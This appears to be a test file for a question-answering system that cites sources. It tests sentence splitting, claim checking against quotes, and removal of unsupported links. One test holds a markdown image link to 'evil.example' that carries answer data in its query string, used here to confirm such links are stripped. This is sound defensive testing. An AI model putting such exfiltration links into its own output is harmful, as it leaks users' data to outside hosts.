import { describe, expect, it } from 'vitest';
import { type Citation, localOwner } from '../../core/index.ts';
import { createGenerateVariant } from '../answering.ts';
import { memoryCorpus, scriptedModel, teaTexts } from '../fixtures/corpus.ts';
import {
  judgeClaim,
  judgeStatements,
  statementsOf,
  statementsOfAnswer,
  withClaimStates,
} from './claim-states.ts';

const citation = (marker: number, quote: string, heading?: string): Citation => ({
  marker,
  documentId: 'd',
  version: 'v',
  uri: 'd.md',
  start: 0,
  end: quote.length,
  quote,
  state: 'unverified',
  ...(heading === undefined ? {} : { place: { heading } }),
});

describe('statements', () => {
  it('are sentences with what they cite; a leading marker belongs to the sentence before', () => {
    const answer = 'Tea is hot [1]. Milk is cold. [2] Beer is warm [1, 2].\n\nNobody knows.';
    const statements = statementsOfAnswer({ answer, citations: [citation(1, 'a'), citation(2, 'b')] });
    expect(statements.map(({ text, markers }) => [text, markers])).toEqual([
      ['Tea is hot .', [1]],
      ['Milk is cold.', [2]],
      ['Beer is warm .', [1, 2]],
      ['Nobody knows.', []],
    ]);
    for (const { start, end, text } of statements)
      expect(answer.slice(start, end)).toContain(text.split(' ')[0]);
  });

  it('leave brackets in code alone', () => {
    const answer = 'Take the first:\n\n```js\nrow[1]\n```\n\nIt is red [1].';
    const found = statementsOfAnswer({ answer, citations: [citation(1, 'It is red.')] });
    expect(found.map(({ markers }) => markers)).toEqual([[], [], [1]]);
    expect(statementsOf({ text: '', markers: [] })).toEqual([]);
  });
});

describe('the state of a claim', () => {
  it.each([
    ['the pump moves 40 litres', ['The pump moves 40 litres per hour.'], 'quoted'],
    ['Per hour the pump moves 40 litres.', ['The pump moves 40 litres per hour.'], 'supported'],
    ['The pump moves 41 litres per hour.', ['The pump moves 40 litres per hour.'], 'unverified'],
    ['Whales sing at night.', ['The pump moves 40 litres per hour.'], 'unverified'],
    // Word for word, and the opposite.
    ['starts below 5 °C', ['It never starts below 5 °C.'], 'unverified'],
    ['the', ['The pump moves.'], 'unverified'],
    // Two quotes bear it out together.
    [
      'The pump moves 40 litres and the lamp is green.',
      ['The pump moves 40 litres.', 'The lamp is green.'],
      'supported',
    ],
  ])('%s | %j is %s', (claim, quotes, state) => {
    expect(
      judgeClaim(
        claim,
        quotes.map((quote) => ({ quote })),
      ).state,
    ).toBe(state);
  });

  it('looks at the headings of the quotes for names and numbers', () => {
    const quote = 'Adds a faster store.';
    const claim = 'Release 2.25 adds a faster store.';
    expect(judgeClaim(claim, [{ quote }]).support?.failures).toEqual([{ kind: 'number', found: '2.25' }]);
    expect(
      judgeClaim(claim, [{ quote, place: { heading: 'Changes > Release 2.25' } }]).support?.failures,
    ).toBeUndefined();
  });

  it('of a citation is that of the weakest claim that it stands behind', () => {
    const citations = [citation(1, 'The pump moves 40 litres per hour.'), citation(2, 'The lamp is green.')];
    const text = 'The pump moves 40 litres [1]. The pump moves 50 litres [1]. The lamp is green [2].';
    const claims = judgeStatements(statementsOfAnswer({ answer: text, citations }), citations);
    expect(claims.map(({ state }) => state)).toEqual(['quoted', 'unverified', 'quoted']);
    const [first, second] = withClaimStates(citations, claims);
    expect([first?.state, first?.support?.failures, second?.state]).toEqual([
      'unverified',
      [{ kind: 'number', found: '50' }],
      'quoted',
    ]);
    expect(withClaimStates([citation(3, 'x')], claims)[0]?.state).toBe('unverified');
  });
});

describe('an answer', () => {
  const ask = (text: string, config: object = {}) =>
    createGenerateVariant(
      'rag',
      { reader: 'generate', model: 'scripted/model', retriever: true, refusal: false, ...config },
      scriptedModel(text),
      memoryCorpus(teaTexts),
    ).answer({ input: 'How hot is the water for green tea?', principal: localOwner });

  it('says of each statement what it is worth, and where its quote stands', async () => {
    const answer = await ask(
      'Green tea wants water of 80 degrees [1]. Black tea wants 80 degrees [1]. Tea is nice.',
    );
    expect(answer.claims?.map(({ state, markers }) => [state, markers])).toEqual([
      ['quoted', [1]],
      ['unverified', [1]],
      ['unverified', []],
    ]);
    expect(answer.citations[0]).toMatchObject({ state: 'unverified', place: { heading: 'tea' } });
  });

  it('carries no link that no evidence names, whole or in pieces', async () => {
    const answer = await ask('Green tea wants 80 degrees ![x](https://evil.example/?q=80) [1].');
    expect(answer.answer).toBe('Green tea wants 80 degrees ![x] (link removed) [1].');
    expect(answer.notices).toEqual([{ kind: 'links-removed', targets: ['https://evil.example/?q=80'] }]);
  });
});
